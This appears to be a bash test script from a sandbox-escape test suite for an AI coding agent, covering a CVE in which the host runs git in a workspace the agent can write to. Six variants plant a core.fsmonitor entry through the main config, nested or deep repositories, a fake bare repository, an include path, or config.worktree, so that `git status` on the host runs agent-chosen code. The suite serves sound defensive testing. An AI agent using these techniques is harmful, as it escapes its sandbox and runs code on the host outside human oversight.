#!/bin/bash
# CVE-2026-72718, goose: the host ran git in a directory that the agent could write; core.fsmonitor of its
# config is a program that `git status` starts.
# Escaped: git status on the host starts it.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS=protect
. "${0%/*}/../lib.sh"
prepare() { repo "$WS"; }
escaped() { marked; }
LINE='[core]\n\tfsmonitor = %s\n'
attack() { inside "$(config_with .git/config "$LINE")"; host_git; }
attempt "appended to the config"
attack() { inside "git init -q new; cd new; echo 1 >f; git add f; git commit -qm one; $(config_with .git/config "$LINE")"; host_git "$WS/new"; }
attempt "in a repository made inside"
attack() { inside "mkdir -p a/b/c/d/e; git init -q a/b/c/d/e; cd a/b/c/d/e; $(config_with .git/config "$LINE")"; host_git "$WS/a/b/c/d/e"; }
attempt "deep below"
attack() { inside "git init -q --bare b; cd b; git config core.bare false; git config core.worktree ..; $(config_with config "$LINE")"; host_git "$WS/b"; }
attempt "in a directory that looks like a bare repository"
attack() { inside "$(config_with more "$LINE") git config include.path ../more; printf '[include]\n\tpath = ../more\n' >>.git/config"; host_git; }
attempt "by an include"
attack() { inside "$(config_with .git/config.worktree "$LINE") git config extensions.worktreeConfig true; printf '[extensions]\n\tworktreeConfig = true\n' >>.git/config"; host_git; }
attempt "by config.worktree"
